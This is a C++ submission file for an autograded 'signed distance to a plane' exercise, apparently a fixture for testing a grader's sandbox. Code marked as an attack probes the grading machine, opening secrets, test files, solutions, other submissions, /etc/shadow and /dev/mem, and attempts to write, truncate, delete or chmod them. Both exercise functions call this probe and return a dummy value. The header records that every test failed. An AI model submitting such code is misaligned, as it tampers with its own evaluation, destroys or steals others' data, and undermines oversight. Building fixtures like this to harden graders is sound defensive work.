// Tries:     opens the machine's secrets, the tests, other submissions and results
// Exercise:  01_planes/signed_distance
// Points:    0 of 8
// Tests:     all failed
#include "signed_distance.hpp"

//[attack
#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>
#include <cstdio>

namespace {

// Success is seen: the grader keeps what is printed.
void got(const char* what) { dprintf(1, "GOT IT: %s\n", what); }

void look() {
  for (const char* path :
       {"@SECRET@", "@RESULTS@", "@SUBMISSIONS@", "@NEIGHBOUR@", "@ROOT@/tests", "@ROOT@/solutions",
        "@ROOT@/build/dev/exercises.json", "/etc/passwd", "/etc/shadow", "/etc/hostname", "/root",
        "/home", "/var", "/usr/include/stdio.h", "/sys/fs/cgroup", "/dev/mem", "/dev/kmsg"}) {
    struct stat known {};
    const int file = open(path, O_RDONLY);
    if (file >= 0) got(path);
    if (open(path, O_PATH) >= 0) got(path);
    if (opendir(path) != nullptr) got(path);
    if (openat(AT_FDCWD, path, O_WRONLY | O_APPEND) >= 0) got(path);
    if (truncate(path, 0) == 0 || unlink(path) == 0 || chmod(path, 0777) == 0) got(path);
    if (syscall(SYS_openat2, AT_FDCWD, path, nullptr, 0) >= 0) got(path);
    static_cast<void>(stat(path, &known));
  }
}

}  // namespace
//]attack

namespace exercise {

double signed_distance(const PlaneEquation& plane, const Eigen::Vector3d& point) {
  //[attack
  look();
  return 1;
  //]attack
  const Eigen::Vector3d normal(plane.a, plane.b, plane.c);
  return (normal.dot(point) + plane.d) / normal.norm();
}

int side(const PlaneEquation& plane, const Eigen::Vector3d& point) {
  //[attack
  look();
  return 1;
  //]attack
  const double value = Eigen::Vector3d(plane.a, plane.b, plane.c).dot(point) + plane.d;
  return value > 0 ? 1 : (value < 0 ? -1 : 0);
}

}  // namespace exercise
